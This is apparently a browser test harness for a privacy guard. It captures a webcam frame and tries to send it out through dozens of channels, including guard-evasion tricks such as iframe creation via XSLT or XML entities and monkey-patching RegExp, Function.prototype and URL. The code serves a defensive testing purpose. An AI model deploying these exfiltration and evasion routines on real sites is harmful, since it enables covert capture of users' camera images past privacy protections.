// Every way a page could send a picture away. Each takes the addresses to try and a piece of a camera frame.
// Run inside a page by the privacy test; what arrived is counted at the receiving end, never here.
// Those whose name begins with "patched" first replace what a careless guard would call.
(() => {
  const wait = (ms) => new Promise((done) => setTimeout(done, ms));
  const element = (name, fields) => {
    const made = Object.assign(document.createElement(name), fields);
    (document.body ?? document.documentElement).append(made);
    return made;
  };
  const link = (rel, href, extra = {}) => document.head.append(Object.assign(document.createElement("link"), { rel, href, ...extra }));

  const xhtml = "http://www.w3.org/1999/xhtml";
  /** The window of a new frame that was added to the page. */
  const added = (frame) => (document.body.append(frame), frame.contentWindow ?? window[0]);
  /** Out through another window, in which nothing has been taken away. */
  const through = async (other, way, to, data, udp) => {
    if (typeof other.RTCPeerConnection === "function") {
      const peer = new other.RTCPeerConnection({ iceServers: [{ urls: `stun:${udp}` }] });
      peer.createDataChannel("x");
      await peer.setLocalDescription(await peer.createOffer());
    }
    await other.fetch(`${to}/${way}`, { method: "POST", mode: "no-cors", body: data });
  };

  window.cameraFrame = async () => {
    const stream = await navigator.mediaDevices.getUserMedia({ video: true });
    const video = document.createElement("video");
    video.muted = true;
    video.srcObject = stream;
    await video.play();
    window.cameraStream = stream;
    const canvas = document.createElement("canvas");
    [canvas.width, canvas.height] = [64, 48];
    canvas.getContext("2d").drawImage(video, 0, 0, 64, 48);
    return canvas.toDataURL("image/jpeg").slice(-400);
  };

  window.attacks = {
    fetch: (to, data) => fetch(`${to}/fetch`, { method: "POST", mode: "no-cors", body: data }),
    fetch_query: (to, data) => fetch(`${to}/fetch_query?${encodeURIComponent(data)}`, { mode: "no-cors" }),
    keepalive: (to, data) => fetch(`${to}/keepalive`, { method: "POST", mode: "no-cors", keepalive: true, body: data }),
    xhr: (to, data) => new Promise((done) => {
      const request = new XMLHttpRequest();
      request.onloadend = done;
      request.open("POST", `${to}/xhr`);
      request.send(data);
    }),
    beacon: (to, data) => navigator.sendBeacon(`${to}/beacon`, data),
    websocket: (to, data) => new Promise((done) => {
      const socket = new WebSocket(`${to.replace("http", "ws")}/websocket?${encodeURIComponent(data)}`);
      socket.onopen = socket.onerror = done;
    }),
    eventsource: (to, data) => new Promise((done) => {
      const source = new EventSource(`${to}/eventsource?${encodeURIComponent(data)}`);
      source.onopen = source.onerror = () => done(source.close());
    }),
    webrtc: async (_to, _data, udp) => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${udp}` }] });
      window.cameraStream.getTracks().forEach((track) => peer.addTrack(track));
      await peer.setLocalDescription(await peer.createOffer());
      await wait(800);
    },
    webtransport: (to, data) => new WebTransport(`${to.replace("http:", "https:")}/webtransport?${encodeURIComponent(data)}`).ready,
    webrtc_old: async (_to, _data, udp) => {
      const peer = new webkitRTCPeerConnection({ iceServers: [{ urls: `stun:${udp}` }] });
      peer.createDataChannel("x");
      await peer.setLocalDescription(await peer.createOffer());
    },
    fetch_header: (to, data) => fetch(`${to}/fetch_header`, { headers: { "x-picture": data.slice(0, 60) } }),
    fetch_range: (to, data) => fetch(`${to}/fetch_range`, { headers: { range: `bytes=${data.charCodeAt(0)}-999` } }),
    fetch_later: (to, data) => fetchLater(`${to}/fetch_later?${encodeURIComponent(data)}`, { activateAfter: 0 }),
    xhr_header: (to, data) => new Promise((done) => {
      const request = new XMLHttpRequest();
      request.onloadend = done;
      request.open("GET", `${to}/xhr_header`);
      request.setRequestHeader("x-picture", data.slice(0, 60));
      request.send();
    }),
    image: (to, data) => new Promise((done) => {
      const image = new Image();
      image.onload = image.onerror = done;
      image.src = `${to}/image?${encodeURIComponent(data)}`;
    }),
    image_element: (to, data) => void element("img", { src: `${to}/image_element?${encodeURIComponent(data)}` }),
    image_set: (to, data) => void element("img", { srcset: `${to}/image_set?${encodeURIComponent(data)} 1x` }),
    image_input: (to, data) => void element("input", { type: "image", src: `${to}/image_input?${encodeURIComponent(data)}` }),
    image_svg: (to, data) => {
      const svg = document.body.appendChild(document.createElementNS("http://www.w3.org/2000/svg", "svg"));
      const image = svg.appendChild(document.createElementNS("http://www.w3.org/2000/svg", "image"));
      image.setAttribute("href", `${to}/image_svg?${encodeURIComponent(data)}`);
    },
    poster: (to, data) => void element("video", { poster: `${to}/poster?${encodeURIComponent(data)}` }),
    audio: (to, data) => void element("audio", { src: `${to}/audio?${encodeURIComponent(data)}`, preload: "auto" }),
    media: (to, data) => void element("video", { src: `${to}/media?${encodeURIComponent(data)}`, autoplay: true }),
    prefetch: (to, data) => link("prefetch", `${to}/prefetch?${encodeURIComponent(data)}`),
    preload: (to, data) => link("preload", `${to}/preload?${encodeURIComponent(data)}`, { as: "fetch" }),
    preconnect: (to) => link("preconnect", to),
    preconnect_changed: (to) => void Object.assign(document.querySelector("link") ?? link("icon", "x"), { rel: "preconnect", href: to }),
    preconnect_attribute: (to) => {
      const found = document.querySelector("link") ?? link("icon", "x");
      found.setAttribute("href", to);
      found.setAttribute("rel", "preconnect");
    },
    preconnect_tokens: (to) => {
      const found = document.querySelector("link") ?? link("icon", "x");
      found.relList.add("preconnect");
      found.href = to;
    },
    preconnect_item: (to) => {
      const found = document.querySelector("link") ?? link("icon", "x");
      for (const [name, value] of [["href", to], ["rel", "preconnect"]]) {
        found.attributes.setNamedItem(Object.assign(document.createAttribute(name), { value }));
      }
    },
    preconnect_node: (to) => {
      const found = document.querySelector("link") ?? link("icon", "x");
      found.getAttributeNode("href").value = to;
      found.getAttributeNode("rel").nodeValue = "preconnect";
    },
    preconnect_text: (to) => void element("div", { innerHTML: `<link rel="preconnect" href="${to}">` }),
    stylesheet: (to, data) => link("stylesheet", `${to}/stylesheet?${encodeURIComponent(data)}`),
    manifest: (to, data) => link("manifest", `${to}/manifest?${encodeURIComponent(data)}`),
    css_url: (to, data) => {
      element("div", { textContent: "x" }).style.backgroundImage = `url("${to}/css_url?${encodeURIComponent(data)}")`;
    },
    css_import: (to, data) => void element("style", { textContent: `@import "${to}/css_import?${encodeURIComponent(data)}"` }),
    speculation: (to, data) => {
      const rules = { prefetch: [{ urls: [`${to}/speculation?${encodeURIComponent(data)}`], eagerness: "immediate" }] };
      element("script", { type: "speculationrules", textContent: JSON.stringify(rules) });
    },
    font: (to, data) => new FontFace("x", `url("${to}/font?${encodeURIComponent(data)}")`).load(),
    script: (to, data) => void element("script", { src: `${to}/script?${encodeURIComponent(data)}` }),
    module: (to, data) => import(`${to}/module?${encodeURIComponent(data)}`),
    worker: (to, data) => {
      const text = `fetch("${to}/worker", {method: "POST", mode: "no-cors", body: ${JSON.stringify(data)}})`;
      new Worker(URL.createObjectURL(new Blob([text])));
    },
    worker_address: (to, data) => void new Worker(`${to}/worker_address?${encodeURIComponent(data)}`),
    worker_shared: (to, data) => {
      const text = `fetch("${to}/worker_shared", {method: "POST", mode: "no-cors", body: ${JSON.stringify(data)}})`;
      new SharedWorker(URL.createObjectURL(new Blob([text])));
    },
    worklet_audio: (to, data) => new AudioContext().audioWorklet.addModule(`${to}/worklet_audio?${encodeURIComponent(data)}`),
    worklet_paint: (to, data) => CSS.paintWorklet.addModule(`${to}/worklet_paint?${encodeURIComponent(data)}`),
    speech: (_to, data) => {
      for (const voice of speechSynthesis.getVoices().filter((one) => !one.localService)) {
        speechSynthesis.speak(Object.assign(new SpeechSynthesisUtterance(data), { voice }));
      }
    },
    notification: (to, data) => void new Notification("x", { icon: `${to}/notification?${encodeURIComponent(data)}` }),
    media_session: (to, data) => {
      const artwork = [{ src: `${to}/media_session?${encodeURIComponent(data)}`, sizes: "96x96", type: "image/png" }];
      navigator.mediaSession.metadata = new MediaMetadata({ title: "x", artwork });
    },
    payment: async (to, data) => {
      const asked = [{ supportedMethods: `${to}/payment?${encodeURIComponent(data)}` }];
      await new PaymentRequest(asked, { total: { label: "x", amount: { currency: "EUR", value: "1" } } }).canMakePayment();
    },
    identity: (to, data) => navigator.credentials.get({
      identity: { providers: [{ configURL: `${to}/identity?${encodeURIComponent(data)}`, clientId: "x" }] },
    }),
    push: async () => (await navigator.serviceWorker.ready).pushManager.subscribe({ userVisibleOnly: true }),
    background_fetch: async (to, data) => {
      const ready = await navigator.serviceWorker.ready;
      await ready.backgroundFetch.fetch("x", `${to}/background_fetch?${encodeURIComponent(data)}`);
    },
    share: (to, data) => navigator.share({ url: `${to}/share?${encodeURIComponent(data)}` }),
    presentation: (to, data) => new PresentationRequest(`${to}/presentation?${encodeURIComponent(data)}`).getAvailability(),
    bluetooth: () => navigator.bluetooth.requestDevice({ acceptAllDevices: true }),
    usb: () => navigator.usb.requestDevice({ filters: [] }),
    hid: () => navigator.hid.requestDevice({ filters: [] }),
    serial: () => navigator.serial.requestPort(),
    midi: () => navigator.requestMIDIAccess({ sysex: true }),
    window_picture: async (to, data, udp) => through(await documentPictureInPicture.requestWindow(), "window_picture", to, data, udp),
    frame_document: (to, data, udp) => {
      const made = document.implementation.createDocument(xhtml, "iframe", null);
      return through(added(document.adoptNode(made.documentElement)), "frame_document", to, data, udp);
    },
    frame_prefixed: (to, data, udp) => {
      const made = document.implementation.createDocument(xhtml, "x:iframe", null);
      return through(added(document.importNode(made.documentElement)), "frame_prefixed", to, data, udp);
    },
    frame_second: (to, data, udp) => {
      const made = document.implementation.createHTMLDocument("").createElement("iframe");
      return through(added(made), "frame_second", to, data, udp);
    },
    frame_new_document: (to, data, udp) => {
      return through(added(new Document().createElementNS(xhtml, "iframe")), "frame_new_document", to, data, udp);
    },
    frame_template: (to, data, udp) => {
      const made = element("template", { innerHTML: "<iframe></iframe>" });
      return through(added(document.importNode(made.content, true).firstChild), "frame_template", to, data, udp);
    },
    frame_fragment: (to, data, udp) => {
      document.body.append(document.createRange().createContextualFragment("<iframe></iframe>"));
      return through(window[0], "frame_fragment", to, data, udp);
    },
    frame_unsafe: (to, data, udp) => {
      element("div", {}).setHTMLUnsafe("<iframe></iframe>");
      return through(window[0], "frame_unsafe", to, data, udp);
    },
    frame_entity: (to, data, udp) => {
      const text = `<!DOCTYPE x [<!ENTITY y "&#60;iframe xmlns='${xhtml}'/>">]><x>&y;</x>`;
      const made = new DOMParser().parseFromString(text, "text/xml").documentElement.firstChild;
      return through(added(document.adoptNode(made)), "frame_entity", to, data, udp);
    },
    frame_transformed: (to, data, udp) => {
      const sheet = `<x:stylesheet version="1.0" xmlns:x="http://www.w3.org/1999/XSL/Transform"><x:template match="/">
        <x:element name="iframe" namespace="${xhtml}"/></x:template></x:stylesheet>`;
      const processor = new XSLTProcessor();
      processor.importStylesheet(new DOMParser().parseFromString(sheet, "text/xml"));
      const made = processor.transformToFragment(new DOMParser().parseFromString("<a/>", "text/xml"), document);
      return through(added(made.firstChild), "frame_transformed", to, data, udp);
    },
    frame_two_faced: (to, data, udp) => {
      let asked = 0;
      const word = { toString: () => (asked++ ? "iframe" : "div") };
      return through(added(document.createElement(word)), "frame_two_faced", to, data, udp);
    },
    patched_words: (to, data, udp) => {
      RegExp.prototype.test = () => false;
      RegExp.prototype.exec = () => null;
      String.prototype.match = String.prototype.search = () => null;
      return through(added(document.createElement("iframe")), "patched_words", to, data, udp);
    },
    patched_calls: (to, data, udp) => {
      const { apply } = Reflect;
      const natives = [document.createElement];
      for (const name of ["apply", "call", "bind"]) {
        const own = Function.prototype[name];
        Function.prototype[name] = function (...words) {
          natives.unshift(this);
          return apply(own, this, words);
        };
      }
      Reflect.apply = (call, ...words) => (natives.unshift(call), apply(call, ...words));
      document.createElement("p");
      for (const call of natives) {
        try {
          const made = apply(call, document, ["iframe"]);
          if (made?.localName === "iframe") return through(added(made), "patched_calls", to, data, udp);
        } catch {}
      }
    },
    patched_string: (to, data, udp) => {
      window.String = () => "div";
      return through(added(document.createElement("iframe")), "patched_string", to, data, udp);
    },
    patched_event: (to, data) => {
      Event.prototype.preventDefault = NavigateEvent.prototype.preventDefault = () => undefined;
      location.href = `${to}/patched_event?${encodeURIComponent(data)}`;
    },
    patched_address: (to, data) => {
      const { origin, pathname } = location;
      window.URL = function () {
        return { origin, pathname, search: "", hash: "" };
      };
      Object.defineProperty(NavigationDestination.prototype, "url", { value: location.href });
      location.href = `${to}/patched_address?${encodeURIComponent(data)}`;
    },
    patched_kind: (to) => {
      const found = document.querySelector("link") ?? link("icon", "x");
      window.HTMLLinkElement = class {};
      Object.setPrototypeOf(found, Element.prototype);
      found.setAttribute("href", to);
      found.setAttribute("rel", "preconnect");
    },
    iframe: (to, data) => void element("iframe", { src: `${to}/iframe?${encodeURIComponent(data)}` }),
    iframe_svg: (to, data) => {
      const frame = document.createElementNS("http://www.w3.org/1999/xhtml", "iframe");
      frame.src = `${to}/iframe_svg?${encodeURIComponent(data)}`;
      document.body.append(frame);
    },
    iframe_inside: (to, data) => {
      const frame = element("iframe", { srcdoc: "<p>x</p>" });
      frame.onload = () => frame.contentWindow.fetch(`${to}/iframe_inside`, { method: "POST", mode: "no-cors", body: data });
    },
    iframe_text: (to, data) => {
      element("div", { innerHTML: `<iframe src="${to}/iframe_text?${encodeURIComponent(data)}"></iframe>` });
    },
    iframe_parsed: (to, data) => {
      const text = `<iframe src="${to}/iframe_parsed?${encodeURIComponent(data)}"></iframe>`;
      document.body.append(document.adoptNode(new DOMParser().parseFromString(text, "text/html").body.firstChild));
    },
    iframe_custom: (to, data) => {
      customElements.define("x-frame", class extends HTMLIFrameElement {}, { extends: "iframe" });
      const frame = new (customElements.get("x-frame"))();
      frame.src = `${to}/iframe_custom?${encodeURIComponent(data)}`;
      document.body.append(frame);
    },
    object: (to, data) => void element("object", { data: `${to}/object?${encodeURIComponent(data)}` }),
    ping: (to, data) => element("a", { href: "#", ping: `${to}/ping?${encodeURIComponent(data)}` }).click(),
    download: (to, data) => element("a", { href: `${to}/download?${encodeURIComponent(data)}`, download: "x" }).click(),
    open: (to, data) => void window.open(`${to}/open?${encodeURIComponent(data)}`),
    link_blank: (to, data) => element("a", { href: `${to}/link_blank?${encodeURIComponent(data)}`, target: "_blank" }).click(),
    form: (to, data) => {
      const form = element("form", { method: "POST", action: `${to}/form` });
      form.append(Object.assign(document.createElement("input"), { name: "d", value: data }));
      form.submit();
    },
    navigate: (to, data) => void (location.href = `${to}/navigate?${encodeURIComponent(data)}`),
    navigate_entry: (to, data) => void navigation.navigate(`${to}/navigate_entry?${encodeURIComponent(data)}`),
    navigate_link: (to, data) => element("a", { href: `${to}/navigate_link?${encodeURIComponent(data)}` }).click(),
    refresh: (to, data) => {
      const meta = Object.assign(document.createElement("meta"), { httpEquiv: "refresh", content: `0;url=${to}/refresh?${encodeURIComponent(data)}` });
      document.head.append(meta);
    },
  };
})();
